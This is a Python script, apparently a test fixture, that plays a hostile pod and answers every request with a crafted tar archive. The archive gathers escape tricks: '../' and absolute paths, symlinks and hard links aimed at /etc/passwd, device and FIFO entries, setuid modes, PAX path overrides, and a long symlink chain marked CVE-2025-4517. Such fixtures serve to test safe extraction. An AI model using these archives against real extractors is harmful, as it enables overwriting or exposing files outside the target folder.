"""A tar that a hostile pod has: whatever it is asked for, it sends this archive."""

from __future__ import annotations

import io
import sys
import tarfile


def archive(target: str) -> bytes:
    """An archive with every way out of a folder, towards `target`."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w", format=tarfile.PAX_FORMAT) as tar:

        def add(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", **pax: str) -> None:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.pax_headers, member.mode = kind, link, pax, 0o4777
            data = b"evil" if kind == tarfile.REGTYPE else b""
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))

        add(f"{target}/absolute")
        add("../../up")
        add("a/../../../up")
        add("link", tarfile.SYMTYPE, target)
        add("link/through")
        add("hard", tarfile.LNKTYPE, "/etc/passwd")
        add("artifacts", tarfile.SYMTYPE, target)
        add("artifacts/link", tarfile.SYMTYPE, "/etc/passwd")
        add("device", tarfile.CHRTYPE)
        add("fifo", tarfile.FIFOTYPE)
        add("innocent", path=f"{target}/by_pax")
        add("innocent", path="../by_pax")
        # CVE-2025-4517: a path of links that is longer than realpath follows, and then out.
        deep = "d" * 247
        for i in range(16):
            add("/".join([deep] * (i + 1)), tarfile.DIRTYPE)
            add("/".join([*[deep] * i, chr(97 + i)]), tarfile.SYMTYPE, deep)
        letters = "/".join(chr(97 + i) for i in range(16))
        add(f"{letters}/{'l' * 254}", tarfile.SYMTYPE, "../" * 16)
        add("escape", tarfile.SYMTYPE, f"{letters}/{'l' * 254}/../../..{target}")
        add("escape/out")
        add("n" * 300)
        add("/".join("p" * 200 for _ in range(30)))
        add("twice")
        add("twice")
        add("twice/below")
    return made.getvalue()


if __name__ == "__main__":
    sys.stdin.buffer.read()
    sys.stdout.buffer.write(archive("/tmp/grpo-gsm8k-never"))
